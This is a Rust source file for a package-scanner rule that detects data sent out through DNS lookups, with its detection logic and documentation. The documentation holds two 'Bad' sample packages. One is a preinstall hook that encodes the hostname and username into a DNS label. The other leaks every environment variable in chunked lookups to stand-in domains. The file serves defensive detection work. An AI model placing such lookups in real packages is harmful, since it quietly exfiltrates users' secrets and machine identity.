//! # Data leaves the machine in a DNS query
//!
//! A secret is looked up as a host name, or facts of the machine are made into labels under a constant
//! domain.
//!
//! ## Why it matters
//!
//! Look-ups leave even where nothing else does: every resolver on the way carries the name to whoever owns
//! the domain.
//!
//! ## Known benign uses
//!
//! Resolvers look up names that a caller gives. Looking up the machine's own name finds its address.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const dns = require("dns"), os = require("os");
//! const label = Buffer.from(os.hostname() + "-" + os.userInfo().username).toString("hex");
//! dns.lookup(label + ".collector.invalid", () => {}); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! import { resolve4 } from "node:dns/promises";
//! const text = Buffer.from(JSON.stringify(process.env)).toString("hex");
//! for (const part of text.match(/.{1,60}/g)) await resolve4(`${part}.c.invalid`); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const dns = require("dns"), os = require("os");
//! exports.address = dns.promises.lookup(os.hostname());
//! exports.service = (name) => dns.promises.resolveTxt(`_${name}._tcp.example.com`);
//! ```
//!
//! ## References
//!
//! - node-ipc incident analyses (May 2026)

use crate::prelude::*;

/// Data leaves the machine in a DNS query.
pub struct DataInDnsQuery;

impl Rule for DataInDnsQuery {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "data-in-dns-query",
            title: "Data leaves the machine in a DNS query",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1048.003",
            covers: &["exfil-dns", "dependency-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(|_| true, |sink| *sink == Sink::NameLookup)
            .filter(|flow| flow.trigger != Trigger::Dormant)
        {
            let is_fact = flow.source == Source::HostFact && has_label(facts, flow);
            if is_fact || flow.source.is_secret() && (flow.trigger.runs_unasked() || has_label(facts, flow)) {
                found.flow(flow);
            }
        }
    }
}

/// Whether the look-up's name is computed under a constant domain.
fn has_label(facts: &Facts<'_>, flow: &FlowFact) -> bool {
    let calls = facts.all_calls().iter().filter(|call| call.spot == flow.sink_spot);
    let mut names = calls.filter_map(|call| call.arguments.first()).flat_map(|name| &name.texts);
    names.any(|name| {
        let is_computed = name.contains(stockade_facts::vocabulary::HOLE);
        is_computed && Host::of(name, true).is_some_and(|host| host.class() != HostClass::Local)
    })
}
